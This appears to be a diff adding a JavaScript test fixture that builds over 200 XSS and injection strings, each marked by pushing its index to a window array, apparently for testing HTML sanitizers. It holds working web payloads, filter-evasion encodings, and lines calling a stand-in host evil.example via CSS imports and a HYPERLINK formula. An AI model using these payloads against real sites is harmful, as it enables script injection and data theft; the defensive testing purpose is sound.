@@ -1,0 +1,106 @@
+// Strings that run, load or lead somewhere where a page takes text for markup, for code or
+// for a harmless address.
+
+const elements = [
+  "<script>{}</script>",
+  "<ScRiPt>{}</sCrIpT>",
+  "<scr<script>ipt>{}</scr</script>ipt>",
+  "<img src=x onerror={}>",
+  "<img src=x onerror='{}'>",
+  '<img src="x" onerror="{}">',
+  "<img/src/onerror={}>",
+  "<svg onload={}>",
+  "<svg><script>{}</script></svg>",
+  "<svg><animate onbegin={} attributeName=x dur=1s>",
+  "<svg><a xlink:href='javascript:{}'><text y=20>x</text></a></svg>",
+  "<math><mtext><table><mglyph><style><img src=x onerror={}>",
+  "<iframe src='javascript:{}'></iframe>",
+  "<iframe srcdoc='<script>parent.{}</script>'></iframe>",
+  "<object data='javascript:{}'></object>",
+  "<embed src='javascript:{}'>",
+  "<form action='javascript:{}'><button autofocus>x</button></form>",
+  "<button formaction='javascript:{}'>x</button>",
+  "<input autofocus onfocus={}>",
+  "<details open ontoggle={}>",
+  "<video><source onerror={}></video>",
+  "<audio src=x onerror={}>",
+  "<body onload={}>",
+  "<marquee onstart={}>",
+  "<style>@import 'https://evil.example/{}'</style>",
+  "<style>*{background:url(https://evil.example/{})}</style>",
+  "<link rel=stylesheet href='https://evil.example/{}'>",
+  "<meta http-equiv=refresh content='0;url=javascript:{}'>",
+  "<base href='javascript:{}//'>",
+  "<a href='javascript:{}'>x</a>",
+  "<a href='data:text/html,<script>{}</script>'>x</a>",
+  "<template><script>{}</script></template>",
+  "<noscript><p title='</noscript><img src=x onerror={}>'>",
+  "<!--><img src=x onerror={}>-->",
+  "<![CDATA[<script>{}</script>]]>",
+  "<x contenteditable onblur={} tabindex=1>x</x>",
+  "<div style='width:expression({})'>",
+  "<div onpointerover={} style=position:fixed;inset:0>x</div>",
+  "<dialog open oncancel={}>x</dialog>",
+  "<portal src='javascript:{}'>",
+];
+/** Ways out of an attribute, of a script, and of a text. */
+const openings = ["", '">', "'>", "</textarea>", "</title>", "-->", "]]>", "`>"];
+const others = [
+  "javascript:{}",
+  "JaVaScRiPt:{}",
+  "java\tscript:{}",
+  "java\nscript:{}",
+  "\u0001javascript:{}",
+  "javascript&colon;{}",
+  "&#106;avascript:{}",
+  "vbscript:{}",
+  "data:text/html,<script>{}</script>",
+  "data:text/html;base64,PHNjcmlwdD4x",
+  "blob:https://evil.example/{}",
+  "file:///etc/passwd?{}",
+  "https://user:password@evil.example/?{}",
+  "https://www.example.com@evil.example/{}",
+  "https://evil.example/\u202egpj.{}",
+  'https://evil.example/"onmouseover="{}',
+  "https://evil.example/'onmouseover='{}",
+  "https://evil.example/<script>{}</script>",
+  "http://evil.example/`{}`",
+  "//evil.example/{}",
+  "https://\u0430pple.example/{}",
+  '";{}//',
+  "';{}//",
+  "\\';{}//",
+  "</script><script>{}</script>",
+  "{{constructor.constructor('{}')()}}",
+  "${`${{}}`}",
+  "#{ {} }",
+  "<%= {} %>",
+  "\u2028{}\u2029",
+  "\u202e<script>{}</script>\u202c",
+  "\ufeff<script>{}</script>",
+  "\uff1cscript\uff1e{}\uff1c/script\uff1e",
+  "%3Cscript%3E{}%3C/script%3E",
+  "&lt;script&gt;{}&lt;/script&gt;",
+  "\\u003cscript\\u003e{}",
+  "+ADw-script+AD4-{}+ADw-/script+AD4-",
+  "[x](javascript:{})",
+  "![x](https://evil.example/{})",
+  "<https://evil.example/{}>",
+  "__proto__ {}",
+  "constructor.prototype {}",
+  '=HYPERLINK("https://evil.example/{}")',
+  "' OR 1=1 --{}",
+  "\u0430dmin\u200b {}",
+  "✓ Verified {}",
+];
+
+/**
+ * Returns more than 200 attacks. One that runs adds its number to the array `window[name]`.
+ *
+ * @param {string} name
+ */
+export function attacks(name) {
+  const marked = [...elements.slice(0, 20).flatMap((one) => openings.map((out) => out + one))];
+  const all = [...new Set([...elements, ...marked, ...others])];
+  return all.map((text, index) => text.replaceAll("{}", () => `${name}.push(${index})`));
+}
